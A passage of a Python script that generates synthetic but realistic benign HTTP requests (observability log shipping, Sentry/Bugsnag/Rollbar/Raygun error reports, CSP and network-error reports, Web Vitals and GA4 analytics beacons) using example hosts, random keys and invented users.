                       "error": 0, "meta": {"db.system": system, "sql.query": stmt, "out.host": "db-primary.internal"}, "metrics": {}}]]
            tracer = pick([("ruby", "2.7.1"), ("python", "2.17.0"), ("java", "1.43.0"), ("go", "1.70.1")])
            h = [["Host", "localhost:8126"], ["User-Agent", pick(["ddtrace-rb/2.7.1", "Go-http-client/1.1", "python-requests/2.32.3"])],
                 ["Content-Type", "application/json"], ["Datadog-Meta-Lang", tracer[0]], ["Datadog-Meta-Tracer-Version", tracer[1]],
                 ["X-Datadog-Trace-Count", "1"]]
            benign("datadog_apm", "PUT", "/v0.3/traces", h, J(trace))
        else:
            rum = {"_dd": {"format_version": 2}, "type": "view", "application": {"id": hexid(8) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(12)},
                   "date": ts_ms(), "service": "web-shop", "source": "browser",
                   "view": {"id": hexid(32), "url": "https://shop.example.com" + pick(URL_PATHS), "referrer": "https://www.google.com/",
                            "loading_time": R.randint(10**8, 5 * 10**9), "largest_contentful_paint": R.randint(10**8, 4 * 10**9)},
                   "session": {"id": hexid(32), "type": "user"}, "usr": {"id": str(R.randint(1000, 99999))}}
            params = qs([("ddsource", "browser"), ("ddtags", "sdk_version:5.30.1,api:fetch,env:prod,service:web-shop"),
                         ("dd-api-key", "pub" + hexid(32)), ("dd-evp-origin-version", "5.30.1"), ("dd-evp-origin", "browser"),
                         ("dd-request-id", hexid(8) + "-" + hexid(4))])
            h = [["Host", "browser-intake-datadoghq.eu"], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "text/plain;charset=UTF-8"],
                 ["Origin", "https://shop.example.com"], ["Referer", "https://shop.example.com/"]]
            benign("datadog_rum", "POST", "/api/v2/rum?" + params, h, J(rum))


def gen_newrelic_honeycomb(n):
    for i in range(n):
        if i % 3 == 0:
            body = J([{"common": {"attributes": {"service.name": pick(SERVICES), "host.name": pick(K8S_NODES)}},
                       "logs": [{"timestamp": ts_ms(), "message": any_log_line(), "attributes": {"level": pick(["info", "error"])}}
                                for _ in range(R.randint(1, 3))]}])
            h = [["Host", "log-api.eu.newrelic.com"], ["User-Agent", pick(["NewRelic-Go-TelemetrySDK/0.8.1", "newrelic-fluent-bit-output/1.19.2"])],
                 ["Api-Key", "NRII-" + hexid(32)], ["Content-Type", "application/json"]]
            benign("newrelic_logs", "POST", "/log/v1", h, body)
        elif i % 3 == 1:
            system, stmt = sql_for_system()
            body = J([{"eventType": pick(["CheckoutCompleted", "SlowQuery", "DeployMarker"]), "appName": pick(SERVICES),
                       "durationMs": R.randint(5, 9000), "query": stmt, "url": pick(URL_PATHS), "region": pick(["eu", "us"])}])
            h = [["Host", "insights-collector.eu01.nr-data.net"], ["User-Agent", "newrelic-python-agent/10.3.0"],
                 ["X-Insert-Key", "NRII-" + hexid(32)], ["Content-Type", "application/json"]]
            benign("newrelic_events", "POST", "/v1/accounts/%d/events" % R.randint(1000000, 9999999), h, body)
        else:
            evs = [{"time": iso(), "samplerate": pick([1, 10, 20]),
                    "data": {"service.name": pick(SERVICES), "name": pick(["http.request", "db.query", "cache.get"]),
                             "duration_ms": round(R.uniform(0.1, 900), 2), "trace.trace_id": hexid(32),
                             "db.statement": sql_for_system()[1], "http.target": pick(URL_PATHS),
                             "error": pick([None, "context deadline exceeded"])}} for _ in range(R.randint(1, 3))]
            h = [["Host", "api.honeycomb.io"], ["User-Agent", pick(["libhoney-go/1.24.0", "libhoney-py/2.4.0", "libhoney-js/4.3.0"])],
                 ["X-Honeycomb-Team", hexid(22)], ["Content-Type", "application/json"]]
            benign("honeycomb_batch", "POST", "/1/batch/%s" % pick(["production", "checkout", "backend-traces"]), h, J(evs))


def gen_fluent_vector_logstash(n):
    for i in range(n):
        k = i % 3
        if k == 0:
            recs = [{"date": ts_s() + R.random(), "log": any_log_line(), "stream": pick(["stdout", "stderr"]),
                     "kubernetes": {"pod_name": "%s-%s" % (pick(SERVICES), hexid(5)), "namespace_name": pick(NAMESPACES),
                                    "container_image": "registry.example.net/shop/%s:2026.12.%d" % (pick(SERVICES), R.randint(1, 5))}}
                    for _ in range(R.randint(1, 3))]
            h = [["Host", "fluentd.logging.svc:9880"], ["User-Agent", pick(["Fluent-Bit", "fluent-logger-python/0.11.1"])],
                 ["Content-Type", "application/json"]]
            benign("fluent_http", "POST", "/%s" % pick(["app.logs", "kube.var.log.containers", "nginx.access"]), h, J(recs))
        elif k == 1:
            recs = "\n".join(J({"timestamp": iso(), "message": any_log_line(), "host": pick(K8S_NODES),
                                "source_type": pick(["kubernetes_logs", "file", "journald"]),
                                "file": pick(["/var/log/nginx/access.log", "/var/log/messages"])}) for _ in range(R.randint(1, 4)))
            h = [["Host", "vector-aggregator.observability.svc:8080"], ["User-Agent", "Vector/0.43.0 (x86_64-unknown-linux-gnu 7a2f63e 2024-11-12 15:06:51.118405447)"],
                 ["Content-Type", "application/x-ndjson"]]
            benign("vector_http", "POST", "/", h, recs)
        else:
            rec = {"@timestamp": iso(), "message": any_log_line(), "type": pick(["syslog", "app", "iis"]),
                   "tags": ["beats_input_codec_plain_applied"], "fields": {"datacenter": pick(["fra1", "ams3", "nyc2"])}}
            if rec["type"] == "iis":
                rec["message"] = "2026-12-05 %02d:%02d:%02d 10.0.1.5 GET /Account/Login ReturnUrl=%%2FDashboard%%3Ftab%%3Dreports 443 - 203.0.113.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 %d" % (
                    R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(5, 900))
            h = [["Host", "logstash.logging.svc:8080"], ["User-Agent", pick(["Go-http-client/1.1", "python-requests/2.32.3", "Apache-HttpClient/5.3 (Java/21.0.5)"])],
                 ["Content-Type", "application/json"]]
            benign("logstash_http", "POST", "/", h, J(rec))


# ---------------------------------------------------------------------------
# benign: error tracking (Sentry, Bugsnag, Rollbar, Raygun)
# ---------------------------------------------------------------------------

SENTRY_SDKS = {
    "python": ("sentry.python.django", "2.19.2", "sentry.python/2.19.2"),
    "java": ("sentry.java.spring-boot.jakarta", "7.18.1", "sentry.java/7.18.1"),
    "php": ("sentry.php.laravel", "4.10.0", "sentry.php.laravel/4.10.0"),
    "nodejs": ("sentry.javascript.node", "8.42.0", "node"),
    "dotnet": ("sentry.dotnet.aspnetcore", "4.13.0", "sentry.dotnet/4.13.0"),
    "go": ("sentry.go", "0.30.0", "sentry-go/0.30.0"),
    "ruby": ("sentry.ruby.rails", "5.21.0", "sentry-ruby/5.21.0"),
    "javascript": ("sentry.javascript.react", "8.42.0", None),
}

SENTRY_HOSTS = ["sentry.acme-corp.de", "o450912.ingest.de.sentry.io", "sentry.internal.example.net", "errors.example.org"]

FIRST_NAMES = ["Anna", "Lukas", "Sofía", "Mateo", "Yuki", "Hiroshi", "Chloé", "Olivier", "Zofia", "Jakub",
               "Aisha", "Omar", "Emre", "Elif", "Liam", "Olivia", "Wei", "Mei", "Priya", "Arjun", "Ingrid", "Søren"]
LAST_NAMES = ["Müller", "García", "Tanaka", "Dubois", "Nowak", "Haddad", "Yılmaz", "O'Brien", "Chen", "Sharma",
              "Johansson", "Kowalski", "Rossi", "Nguyen", "Silva", "de la Cruz"]


def person():
    f, l = pick(FIRST_NAMES), pick(LAST_NAMES)
    email = "%s.%s@%s" % (f.lower(), l.lower().replace("'", "").replace(" ", ""), pick(["example.com", "example.de", "example.jp", "mail.example.org"]))
    email = email.encode("ascii", "ignore").decode() if R.random() < 0.7 else email
    return "%s %s" % (f, l), email


def frames_from_trace(lang, tr):
    frames = []
    for line in tr.splitlines():
        s = line.strip()
        if s.startswith("at ") and lang in ("java", "dotnet", "nodejs"):
            fn = s[3:].split("(")[0]
            loc = s[s.find("(") + 1:s.rfind(")")] if "(" in s else ""
            frames.append({"function": fn, "filename": loc.split(":")[0] or "unknown", "lineno": R.randint(10, 900), "in_app": "acme" in fn or "Contoso" in fn or "src" in loc})
        elif s.startswith("File ") and lang == "python":
            parts = s.split('"')
            frames.append({"filename": parts[1], "abs_path": parts[1], "function": s.split(" in ")[-1], "lineno": R.randint(10, 900),
                           "in_app": "/app/" in parts[1] and "site-packages" not in parts[1], "context_line": "    response = get_response(request)"})
        elif s.startswith("#") and lang == "php":
            frames.append({"filename": s.split(" ")[1].split("(")[0], "function": s.split(": ")[-1][:60], "lineno": R.randint(10, 300)})
        elif lang == "go" and s.startswith("/"):
            frames.append({"abs_path": s.split(":")[0], "lineno": R.randint(10, 400), "function": "handleQuote", "module": "github.com/acme/shipping/internal/api"})
    return list(reversed(frames)) or [{"function": "main", "filename": "main", "lineno": 1}]


def sentry_breadcrumbs():
    crumbs = []
    for _ in range(R.randint(2, 6)):
        t = pick(["query", "http", "navigation", "log", "ui.click"])
        if t == "query":
            system, stmt = sql_for_system()
            crumbs.append({"type": "default", "category": "query", "message": stmt, "timestamp": ts_s() + R.random(),
                           "data": {"db.system": system, "duration_ms": R.randint(1, 400)}})
        elif t == "http":
            crumbs.append({"type": "http", "category": "httplib" if R.random() < 0.5 else "fetch",
                           "data": {"url": pick(["https://api.example.com/v1/rates?base=EUR&symbols=USD,JPY",
                                                 "http://inventory-worker:8080/api/stock?sku=SKU-40-RED",
                                                 "https://shop.example.com/api/cart?include=items,discounts"]),
                                    "method": pick(["GET", "POST"]), "status_code": pick([200, 404, 502])},
                           "timestamp": ts_s() + R.random()})
        elif t == "navigation":
            crumbs.append({"category": "navigation", "data": {"from": "/cart", "to": pick(URL_PATHS)}, "timestamp": ts_s() + R.random()})
        elif t == "ui.click":
            crumbs.append({"category": "ui.click", "message": pick(["button#checkout-submit", "div.product-card > a[href=\"/p/8812\"]",
                                                                     "input[name=\"coupon\"]", "nav > ul > li:nth-child(3) > a"]),
                           "timestamp": ts_s() + R.random()})
        else:
            crumbs.append({"category": "logging", "level": "warning", "message": pick(LOG_LINES), "timestamp": ts_s() + R.random()})
    return {"values": crumbs}


def sentry_event(lang):
    tl = lang if lang != "javascript" else "nodejs"
    cands = [t for t in TRACES if t[0] == tl] or TRACES
    _, tr = pick(cands)
    first = tr.splitlines()[0] if not tr.startswith("Traceback") else tr.splitlines()[-1]
    etype, _, evalue = first.partition(": ")
    name, email = person()
    path = pick(URL_PATHS)
    ev = {
        "event_id": hexid(32), "timestamp": ts_s() + R.random(), "platform": lang if lang != "nodejs" else "node",
        "level": "error", "environment": pick(["production", "staging"]), "release": "%s@%d.%d.%d" % (pick(SERVICES), R.randint(1, 9), R.randint(0, 40), R.randint(0, 9)),
        "server_name": pick(K8S_NODES),
        "exception": {"values": [{"type": etype.strip()[:80], "value": evalue[:300],
                                  "mechanism": {"type": pick(["django", "generic", "onunhandledrejection", "UncaughtExceptionHandler"]), "handled": False},
                                  "stacktrace": {"frames": frames_from_trace(tl, tr)}}]},
        "breadcrumbs": sentry_breadcrumbs(),
        "request": {"url": "https://shop.example.com" + path.split("?")[0], "method": pick(["GET", "POST"]),
                    "query_string": path.split("?")[1] if "?" in path else "",
                    "headers": {"User-Agent": pick(BROWSER_UAS), "Accept-Language": pick(LANGS),
                                "Referer": "https://shop.example.com/cart", "X-Forwarded-For": "203.0.113.%d" % R.randint(1, 254)},
                    "env": {"REMOTE_ADDR": "10.42.1.%d" % R.randint(2, 250), "SERVER_NAME": "shop.example.com"}},
        "user": {"id": str(R.randint(1000, 99999)), "username": name, "email": email, "ip_address": "{{auto}}" if lang == "javascript" else "203.0.113.%d" % R.randint(1, 254)},
        "contexts": {"trace": {"trace_id": hexid(32), "span_id": hexid(16), "op": "http.server"},
                     "runtime": {"name": {"python": "CPython", "java": "OpenJDK", "php": "php", "nodejs": "node", "dotnet": ".NET", "go": "go", "ruby": "ruby", "javascript": "browser"}[lang]},
                     "os": {"name": pick(["Linux", "Windows", "macOS"])}},
        "tags": {"url": path.split("?")[0], "locale": pick(["de_DE", "en_US", "ja_JP", "fr_FR"])},
    }
    if lang == "python" and R.random() < 0.5:
        ev["request"]["data"] = {"code": "WINTER26", "csrfmiddlewaretoken": "[Filtered]"}
        ev["request"]["cookies"] = {"sessionid": "[Filtered]", "django_language": "de"}
    return ev


def sentry_transaction(lang):
    spans = []
    for _ in range(R.randint(1, 4)):
        system, stmt = sql_for_system()
        spans.append({"span_id": hexid(16), "parent_span_id": hexid(16), "trace_id": hexid(32), "op": "db.sql.query" if R.random() < 0.8 else "db.query",
                      "description": stmt, "start_timestamp": ts_s() + R.random(), "timestamp": ts_s() + R.random(),
                      "data": {"db.system": system, "db.name": "shop"}})
    spans.append({"span_id": hexid(16), "parent_span_id": hexid(16), "trace_id": hexid(32), "op": "http.client",
                  "description": "GET https://api.example.com/v1/rates?base=EUR", "start_timestamp": ts_s() + R.random(), "timestamp": ts_s() + R.random()})
    return {"type": "transaction", "transaction": pick(["/api/v2/orders", "GET /checkout/{step}", "CatalogController::index", "tasks.export.run_export"]),
            "transaction_info": {"source": "route"}, "start_timestamp": ts_s() + R.random(), "timestamp": ts_s() + R.random(),
            "contexts": {"trace": {"trace_id": hexid(32), "span_id": hexid(16), "op": "http.server", "status": "ok"}},
            "spans": spans, "platform": lang, "event_id": hexid(32)}


def sentry_envelope_headers(lang, host):
    sdk_name, ver, ua = SENTRY_SDKS[lang]
    key = hexid(32)
    h = [["Host", host]]
    if lang == "javascript":
        h += [["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "text/plain;charset=UTF-8"],
              ["Origin", "https://shop.example.com"], ["Referer", "https://shop.example.com/checkout"], ["Accept", "*/*"],
              ["Accept-Language", pick(LANGS)]]
        uri_q = "?" + qs([("sentry_key", key), ("sentry_version", "7"), ("sentry_client", "%s/%s" % (sdk_name, ver))])
    else:
        h += [["User-Agent", ua if ua != "node" else "sentry.javascript.node/" + ver],
              ["Content-Type", "application/x-sentry-envelope"],
              ["X-Sentry-Auth", "Sentry sentry_version=7, sentry_client=%s/%s, sentry_key=%s" % (sdk_name, ver, key)]]
        uri_q = ""
    return h, uri_q, key


def gen_sentry_envelopes(n):
    langs = list(SENTRY_SDKS)
    for i in range(n):
        lang = langs[i % len(langs)]
        host = pick(SENTRY_HOSTS)
        h, uri_q, key = sentry_envelope_headers(lang, host)
        sdk_name, ver, _ = SENTRY_SDKS[lang]
        proj = R.randint(2, 4500000)
        if R.random() < 0.7:
            payload = sentry_event(lang)
            itype = "event"
        else:
            payload = sentry_transaction(lang)
            itype = "transaction"
        item = J(payload)
        env_hdr = {"event_id": payload["event_id"], "sent_at": iso(), "sdk": {"name": sdk_name, "version": ver},
                   "dsn": "https://%s@%s/%d" % (key, host, proj),
                   "trace": {"trace_id": hexid(32), "environment": "production", "public_key": key, "sample_rate": "0.2"}}
        parts = [J(env_hdr), J({"type": itype, "length": len(item.encode("utf-8"))}) if R.random() < 0.5 else J({"type": itype, "content_type": "application/json"}), item]
        if R.random() < 0.3:
            sess = J({"sid": hexid(32), "init": False, "started": iso(), "timestamp": iso(), "status": "ok", "errors": 1,
                      "attrs": {"release": payload.get("release", "web@1.0.0"), "environment": "production"}})
            parts += [J({"type": "session"}), sess]
        body = "\n".join(parts) + "\n"
        benign("sentry_envelope", "POST", "/api/%d/envelope/%s" % (proj, uri_q), h, body)


def gen_sentry_store(n):
    for i in range(n):
        lang = pick(["python", "php", "java", "ruby"])
        host = pick(SENTRY_HOSTS)
        sdk_name, ver, ua = SENTRY_SDKS[lang]
        ev = sentry_event(lang)
        ev["sdk"] = {"name": sdk_name, "version": ver}
        h = [["Host", host], ["User-Agent", ua], ["Content-Type", "application/json"],
             ["X-Sentry-Auth", "Sentry sentry_version=7, sentry_timestamp=%d, sentry_client=%s/%s, sentry_key=%s" % (ts_s(), sdk_name, ver, hexid(32))]]
        benign("sentry_store", "POST", "/api/%d/store/" % R.randint(2, 99999), h, J(ev))


def gen_bugsnag_rollbar_raygun(n):
    for i in range(n):
        k = i % 3
        name, email = person()
        if k == 0:
            lang = pick(["nodejs", "java", "ruby", "php"])
            _, tr = pick([t for t in TRACES if t[0] == lang])
            ev = {"apiKey": hexid(32), "payloadVersion": "5",
                  "notifier": {"name": "Bugsnag %s" % {"nodejs": "Node.js", "java": "Java", "ruby": "Ruby", "php": "PHP"}[lang], "version": "8.1.2", "url": "https://github.com/bugsnag/"},
                  "events": [{"exceptions": [{"errorClass": tr.split(":")[0][:60], "message": tr.splitlines()[0][:200],
                                              "stacktrace": [{"file": f.get("filename", f.get("abs_path", "?")), "lineNumber": f["lineno"], "method": f.get("function", "?")}
                                                             for f in frames_from_trace(lang, tr)]}],
                              "context": "POST /api/v2/orders", "severity": "error", "unhandled": True,
                              "user": {"id": str(R.randint(100, 99999)), "name": name, "email": email},
                              "request": {"url": "https://shop.example.com" + pick(URL_PATHS), "httpMethod": "POST", "clientIp": "203.0.113.9",
                                          "headers": {"user-agent": pick(BROWSER_UAS)}},
                              "app": {"releaseStage": "production", "version": "3.4.1"}, "device": {"hostname": pick(K8S_NODES), "osName": "linux"}}]}
            h = [["Host", "notify.bugsnag.com"], ["User-Agent", pick(["node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Bugsnag Java Notifier", "Faraday v2.12.0"])],
                 ["Content-Type", "application/json"], ["Bugsnag-Api-Key", ev["apiKey"]], ["Bugsnag-Payload-Version", "5"], ["Bugsnag-Sent-At", iso()]]
            benign("bugsnag_notify", "POST", "/", h, J(ev))
        elif k == 1:
            lang = pick(["python", "php", "ruby"])
            _, tr = pick([t for t in TRACES if t[0] == lang])
            payload = {"access_token": hexid(32), "data": {
                "environment": "production", "level": "error", "platform": "linux", "language": lang, "framework": pick(["django", "laravel", "rails"]),
                "body": {"trace": {"frames": [{"filename": f.get("filename", f.get("abs_path", "?")), "lineno": f["lineno"], "method": f.get("function", "?")} for f in frames_from_trace(lang, tr)],
                                   "exception": {"class": tr.splitlines()[-1].split(":")[0][:60], "message": tr.splitlines()[-1][:200]}}},
                "request": {"url": "https://shop.example.com" + pick(URL_PATHS), "method": "GET", "GET": {"page": "2", "q": "winter jacket"},
                            "user_ip": "198.51.100.%d" % R.randint(2, 250)},
                "person": {"id": str(R.randint(1, 99999)), "username": name, "email": email},
                "server": {"host": pick(K8S_NODES), "root": "/var/www/html" if lang == "php" else "/app", "branch": "main", "code_version": hexid(40)},
                "notifier": {"name": "pyrollbar" if lang == "python" else "rollbar-" + lang, "version": "1.1.0"}}}
            h = [["Host", "api.rollbar.com"], ["User-Agent", pick(["python-requests/2.32.3", "GuzzleHttp/7", "Ruby"])],
                 ["Content-Type", "application/json"], ["X-Rollbar-Access-Token", payload["access_token"]]]
            benign("rollbar_item", "POST", "/api/1/item/", h, J(payload))
        else:
            lang = pick(["dotnet", "nodejs", "java"])
            _, tr = pick([t for t in TRACES if t[0] == lang])
            payload = {"occurredOn": iso(), "details": {
                "machineName": pick(["WEB-PROD-03", "ip-10-0-4-18", "AZ-APP-7"]), "version": "4.2.0.118",
                "error": {"className": tr.split(":")[0][:80], "message": tr.splitlines()[0][:200],
                          "stackTrace": [{"lineNumber": f["lineno"], "className": f.get("function", "?").rsplit(".", 1)[0], "methodName": f.get("function", "?").rsplit(".", 1)[-1], "fileName": f.get("filename", "")} for f in frames_from_trace(lang, tr)]},
                "environment": {"osVersion": "Microsoft Windows NT 10.0.20348.0", "processorCount": 8, "locale": pick(["en-GB", "de-DE", "nl-NL"])},
                "request": {"hostName": "portal.example.com", "url": "/Payslip/Latest/%d" % R.randint(1, 9999), "httpMethod": "GET",
                            "iPAddress": "10.0.0.%d" % R.randint(2, 250), "queryString": {"download": "true", "format": "pdf"},
                            "headers": {"Accept": "text/html", "User-Agent": pick(BROWSER_UAS)}},
                "user": {"identifier": email, "fullName": name}, "tags": ["payroll", "prod"]}}
            h = [["Host", "api.raygun.com"], ["User-Agent", pick(["raygun4net/11.1.1", "raygun4node/1.0.1", "raygun4java/3.0.0"])],
                 ["Content-Type", "application/json"], ["X-ApiKey", hexid(22)]]
            benign("raygun_entries", "POST", "/entries", h, J(payload))


# ---------------------------------------------------------------------------
# benign: browser reports and RUM beacons
# ---------------------------------------------------------------------------

SITES = ["https://shop.example.com", "https://www.acme-corp.de", "https://app.example.io", "https://news.example.jp",
         "https://portal.example.org", "https://tienda.example.es"]

CSP_CASES = [
    ("script-src-elem", "https://www.googletagmanager.com/gtag/js?id=G-7XK2MZ9Q1L", "", "https://shop.example.com/"),
    ("script-src-elem", "inline", "window.dataLayer = window.dataLayer || [];function gtag(){dataLayer.push(arg", "https://shop.example.com/checkout"),
    ("script-src", "eval", "", "https://app.example.io/static/js/vendor.3f2a.js"),
    ("img-src", "https://www.facebook.com/tr/?id=1234567890&ev=PageView&noscript=1", "", ""),
    ("style-src-elem", "inline", ".ytp-chrome-top{display:none}", ""),
    ("connect-src", "https://api.segment.io/v1/t", "", "https://cdn.segment.com/analytics.js/v1/abc/analytics.min.js"),
    ("font-src", "https://fonts.gstatic.com/s/inter/v13/UcCO3FwrK3iLTeHuS_fvQtMwCp50KnMw2boKoduKmMEVuLyfAZ9hiA.woff2", "", ""),
    ("script-src-elem", "chrome-extension", "", "chrome-extension://cjpalhdlnbpafiamejdnhcphjbkeiagm/js/contentscript.js"),
    ("frame-src", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0", "", ""),
    ("script-src-attr", "inline", "return false;", "https://portal.example.org/admin/users?page=3"),
    ("script-src-elem", "inline", "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':", ""),
    ("img-src", "data", "", ""),
    ("worker-src", "blob", "", "https://app.example.io/static/js/pdf.worker.min.js"),
    ("connect-src", "wss://realtime.example.io/socket?vsn=2.0.0", "", ""),
    ("style-src-attr", "inline", "display: none;", ""),
]


def gen_csp_reports(n):
    for i in range(n):
        site = pick(SITES)
        directive, blocked, sample, src = CSP_CASES[i % len(CSP_CASES)]
        doc = site + pick(["/", "/cart", "/checkout/shipping?step=2", "/blog/2026/11/winter-sale", "/account/orders?page=2", "/search?q=rain+jacket"])
        if i % 2 == 0:
            rep = {"csp-report": {"document-uri": doc, "referrer": pick(["", "https://www.google.com/", site + "/"]),
                                  "violated-directive": directive, "effective-directive": directive,
                                  "original-policy": "default-src 'self'; script-src 'self' 'nonce-%s' https://cdn.example.net; img-src 'self' data: https:; report-uri /csp-report" % hexid(16),
                                  "disposition": pick(["enforce", "report"]), "blocked-uri": blocked, "status-code": 200,
                                  "line-number": R.randint(1, 400), "column-number": R.randint(1, 300)}}
            if src:
                rep["csp-report"]["source-file"] = src
            if sample:
                rep["csp-report"]["script-sample"] = sample
            h = [["Host", site.split("//")[1]], ["User-Agent", pick(BROWSER_UAS[1:3] + BROWSER_UAS[3:4])], ["Content-Type", "application/csp-report"],
                 ["Origin", site], ["Accept", "*/*"]]
            benign("csp_report", "POST", pick(["/csp-report", "/api/security/csp", "/_/csp-violation"]), h, J(rep))
        else:
            body = {"documentURL": doc, "referrer": "", "blockedURL": blocked, "effectiveDirective": directive,
                    "originalPolicy": "script-src 'self' 'strict-dynamic' 'nonce-%s'; object-src 'none'; base-uri 'none'; report-to csp-endpoint" % hexid(16),
                    "sample": sample, "disposition": "enforce", "statusCode": 200, "lineNumber": R.randint(1, 400), "columnNumber": R.randint(1, 300)}
            if src:
                body["sourceFile"] = src
            reps = [{"age": R.randint(0, 60000), "body": body, "type": "csp-violation", "url": doc, "user_agent": BROWSER_UAS[0]}]
            h = [["Host", pick(["reports.example.net", site.split("//")[1]])], ["User-Agent", BROWSER_UAS[0]], ["Content-Type", "application/reports+json"],
                 ["Origin", site]]
            benign("report_to_csp", "POST", "/reports", h, J(reps))


def gen_nel_reporting(n):
    for i in range(n):
        site = pick(SITES)
        k = i % 3
        if k == 0:
            body = [{"age": R.randint(0, 90000), "type": "network-error", "url": site + pick(["/", "/api/cart", "/static/app.js"]),
                     "user_agent": BROWSER_UAS[0],
                     "body": {"elapsed_time": R.randint(10, 30000), "method": "GET", "phase": pick(["dns", "connection", "application"]),
                              "protocol": pick(["h2", "http/1.1", "h3"]), "referrer": site + "/", "sampling_fraction": 1.0,
                              "server_ip": "192.0.2.%d" % R.randint(1, 254), "status_code": pick([0, 502, 503]),
                              "type": pick(["tcp.timed_out", "dns.name_not_resolved", "http.error", "tcp.reset", "h2.ping_failed"])}}]
        elif k == 1:
            body = [{"age": R.randint(0, 90000), "type": "deprecation", "url": site + "/checkout",
                     "user_agent": BROWSER_UAS[0],
                     "body": {"id": pick(["UnloadHandler", "NavigatorGetUserMedia", "PrefixedStorageInfo"]),
                              "message": "Unload event listeners are deprecated and will be removed.",
                              "sourceFile": site + "/static/js/legacy-tracking.js", "lineNumber": R.randint(1, 900), "columnNumber": R.randint(1, 80)}}]
        else:
            body = [{"age": R.randint(0, 90000), "type": pick(["coep", "permissions-policy-violation", "intervention"]), "url": site + "/",
                     "user_agent": BROWSER_UAS[6],
                     "body": {"featureId": "geolocation", "disposition": "enforce", "message": "Permissions policy violation: geolocation is not allowed in this document.",
                              "sourceFile": site + "/static/js/store-locator.js", "lineNumber": 42, "columnNumber": 17}}]
        h = [["Host", pick(["nel.example.net", "reports.example.net"])], ["User-Agent", BROWSER_UAS[0]],
             ["Content-Type", "application/reports+json"], ["Origin", site]]
        benign("reporting_api", "POST", pick(["/report", "/nel", "/reports/default"]), h, J(body))


def gen_web_vitals(n):
    for i in range(n):
        site = pick(SITES)
        path = pick(["/", "/cart", "/p/wireless-headphones-8812?color=black&ref=homepage", "/search?q=gore-tex%20jacke&page=2",
                     "/blog/2026/11/how-we-cut-lcp-by-40%25", "/ja/%E5%95%86%E5%93%81/8812"])
        metric = pick([("LCP", R.uniform(400, 6000)), ("INP", R.uniform(16, 900)), ("CLS", R.uniform(0, 0.6)), ("FCP", R.uniform(200, 4000)), ("TTFB", R.uniform(50, 2500))])
        beacon = {"name": metric[0], "value": round(metric[1], 4), "rating": pick(["good", "needs-improvement", "poor"]),
                  "delta": round(metric[1], 4), "id": "v4-%d-%d" % (ts_ms(), R.randint(10**12, 10**13)),
                  "navigationType": pick(["navigate", "reload", "back-forward", "prerender"]), "page": path,
                  "connection": pick(["4g", "3g", "wifi"]), "deviceMemory": pick([4, 8])}
        if metric[0] == "LCP":
            beacon["attribution"] = {"element": pick(["#main > div.hero > img", "main>section:nth-of-type(1)>h1", "img.product-image[alt=\"Jacke \\\"Storm\\\"\"]"]),
                                     "url": site + "/media/hero-winter-2026.avif?w=1600&q=75"}
        if metric[0] == "INP":
            beacon["attribution"] = {"interactionTarget": pick(["button.add-to-cart", "html>body>div#__next>header>nav>button", "input#search"]),
                                     "interactionType": "pointer", "loadState": "complete"}
        h = [["Host", site.split("//")[1]], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "text/plain;charset=UTF-8"],
             ["Origin", site], ["Referer", site + path], ["Accept", "*/*"], ["Accept-Language", pick(LANGS)]]
        if i % 4 == 3:
            # some sites use URL-encoded query beacons instead
            benign("web_vitals_get", "GET", "/rum/collect?" + qs([("m", metric[0]), ("v", "%.3f" % metric[1]), ("p", path), ("nt", beacon["navigationType"])]),
                   [x for x in h if x[0] != "Content-Type"])
        else:
            benign("web_vitals_beacon", "POST", pick(["/api/vitals", "/rum", "/_vitals"]), h, J(beacon))


def gen_ga4(n):
    for i in range(n):
        site = pick(SITES)
        if i % 2 == 0:
            params = [("v", "2"), ("tid", "G-%s" % "".join(R.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(10))),
                      ("gtm", "45je4bc0v9%d" % R.randint(100000, 999999)), ("_p", str(ts_ms())), ("cid", "%d.%d" % (R.randint(10**8, 10**9), ts_s())),
                      ("ul", pick(["de-de", "en-us", "ja", "fr-fr"])), ("sr", pick(["1920x1080", "390x844", "2560x1440"])),
                      ("sid", str(ts_s())), ("sct", str(R.randint(1, 40))), ("seg", "1"),
                      ("dl", site + pick(["/", "/p/8812?utm_source=google&utm_medium=cpc&utm_campaign=winter_sale&gclid=Cj0KCQiA", "/search?q=regenjacke+damen"])),
                      ("dr", pick(["https://www.google.de/", "https://www.bing.com/search?q=acme+shop", "android-app://com.google.android.gm/"])),
                      ("dt", pick(["Winter Sale – bis zu 50 % Rabatt | ACME", "Suchergebnisse für „Regenjacke“", "Your cart (3) — Example Shop"])),
                      ("en", pick(["page_view", "view_item", "add_to_cart", "scroll"])), ("_et", str(R.randint(1, 9000)))]
            if R.random() < 0.5:
                params += [("ep.search_term", pick(["gore-tex jacke", "usb-c hub 4k", "café moulu", "靴 防水"])), ("epn.value", "49.99")]
            h = [["Host", pick(["region1.google-analytics.com", "www.google-analytics.com"])], ["User-Agent", pick(BROWSER_UAS)],
                 ["Origin", site], ["Referer", site + "/"], ["Accept", "*/*"]]
            benign("ga4_collect", "POST", "/g/collect?" + qs(params), h + [["Content-Type", "text/plain;charset=UTF-8"]], "")
        else:
            body = {"client_id": "%d.%d" % (R.randint(10**8, 10**9), ts_s()), "user_id": str(R.randint(1, 99999)),
                    "events": [{"name": pick(["purchase", "refund", "sign_up"]),
                                "params": {"currency": "EUR", "value": round(R.uniform(5, 500), 2), "transaction_id": "T-%d" % R.randint(10**5, 10**6),
                                           "items": [{"item_id": "SKU-11-BLK", "item_name": "Jacke \"Storm\" – schwarz", "quantity": 1, "price": 129.0}]}}]}
            h = [["Host", "www.google-analytics.com"], ["User-Agent", pick(["python-requests/2.32.3", "GuzzleHttp/7", "okhttp/4.12.0"])],
                 ["Content-Type", "application/json"]]
            benign("ga4_mp", "POST", "/mp/collect?" + qs([("measurement_id", "G-7XK2MZ9Q1L"), ("api_secret", hexid(22))]), h, J(body))


def gen_segment_rudder_snowplow(n):
    for i in range(n):
        site = pick(SITES)
        k = i % 3
        page_path = pick(["/search", "/p/8812", "/blog/2026/11/winter-sale", "/pricing"])
